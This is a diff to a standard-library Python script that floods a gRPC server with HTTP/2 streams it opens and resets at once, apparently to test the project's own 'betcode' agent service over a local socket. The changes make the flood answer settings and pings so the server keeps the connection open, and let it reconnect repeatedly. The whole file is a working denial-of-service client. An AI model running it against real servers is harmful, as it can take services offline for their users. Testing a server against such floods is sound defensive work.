@@ -1,13 +1,18 @@
 """An HTTP/2 client that opens streams and resets them at once, in a tight loop. Standard library only.
 
-As a program: the path of a unix socket or HOST:PORT; it runs until it is ended, and prints a line when it has begun.
+It acknowledges settings and answers pings, as every client must: gRPC itself closes one that does not.
+
+As a program: the path of a unix socket or HOST:PORT; it prints a line when it has begun, and another one when the
+server has closed the connection. With a further argument it connects again then, so many times.
 """
 
 import socket
 import struct
 import sys
+from functools import cache
 
-_HEADERS, _DATA, _RESET, _SETTINGS = 1, 0, 3, 4
+_HEADERS, _DATA, _RESET, _SETTINGS, _PING = 1, 0, 3, 4, 6
+_ACKNOWLEDGED = 1
 _CANCEL = struct.pack(">I", 8)
 _AT_ONCE = 200
 
@@ -32,35 +37,67 @@ def opened(address: str) -> socket.socket:
     return connection
 
 
-def flood(connection: socket.socket, method: str) -> None:
-    """Until the other end has enough of it."""
-    block = b"".join(
+def call_frames(method: str, stream: int) -> bytes:
+    """The frames of a call that is opened, sent and reset."""
+    block = _header_block(method)
+    return frame(_HEADERS, 4, stream, block) + frame(_DATA, 1, stream, bytes(5)) + frame(_RESET, 0, stream, _CANCEL)
+
+
+@cache
+def _header_block(method: str) -> bytes:
+    return b"".join(
         _header(name, value)
         for name, value in (
             *((":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "localhost")),
             *(("te", "trailers"), ("content-type", "application/grpc")),
         )
     )
-    connection.settimeout(0)
+
+
+def flood(connection: socket.socket, method: str) -> None:
+    """Until the server closes the connection."""
+    received = b""
     stream = 1
-    while stream < 2**30:
-        call = b"".join(
-            frame(_HEADERS, 4, each, block) + frame(_DATA, 1, each, bytes(5)) + frame(_RESET, 0, each, _CANCEL)
-            for each in range(stream, stream + 2 * _AT_ONCE, 2)
-        )
-        stream += 2 * _AT_ONCE
+    try:
+        while stream < 2**30:
+            connection.settimeout(None)
+            connection.sendall(b"".join(call_frames(method, each) for each in range(stream, stream + 2 * _AT_ONCE, 2)))
+            stream += 2 * _AT_ONCE
+            if stream == 1 + 20 * _AT_ONCE:
+                print("begun", flush=True)
+            connection.settimeout(0)
+            while chunk := _received(connection):
+                received = _answered(connection, received + chunk)
+    except (ConnectionError, EOFError):
+        print("closed", flush=True)
+
+
+def _received(connection: socket.socket) -> bytes:
+    """What there is, perhaps nothing. Raises EOFError."""
+    try:
+        chunk = connection.recv(65536)
+    except BlockingIOError:
+        return b""
+    if not chunk:
+        raise EOFError
+    return chunk
+
+
+def _answered(connection: socket.socket, received: bytes) -> bytes:
+    """Answer what must be answered; return the beginning of a frame that is not complete."""
+    answers = b""
+    while len(received) >= 9 and len(received) >= (end := 9 + int.from_bytes(received[:3], "big")):
+        kind, flags = received[3], received[4]
+        if kind in (_SETTINGS, _PING) and not flags & _ACKNOWLEDGED:
+            answers += frame(kind, _ACKNOWLEDGED, 0, received[9:end] if kind == _PING else b"")
+        received = received[end:]
+    if answers:
         connection.settimeout(None)
-        connection.sendall(call)
-        if stream == 1 + 20 * _AT_ONCE:
-            print("begun", flush=True)
+        connection.sendall(answers)
         connection.settimeout(0)
-        try:
-            while connection.recv(65536):
-                pass
-            return
-        except BlockingIOError:
-            pass
+    return received
 
 
 if __name__ == "__main__":
-    flood(opened(sys.argv[1]), "/betcode.v1.AgentService/ListSessions")
+    for _ in range(int((*sys.argv, "1")[2])):
+        flood(opened(sys.argv[1]), "/betcode.v1.AgentService/ListSessions")
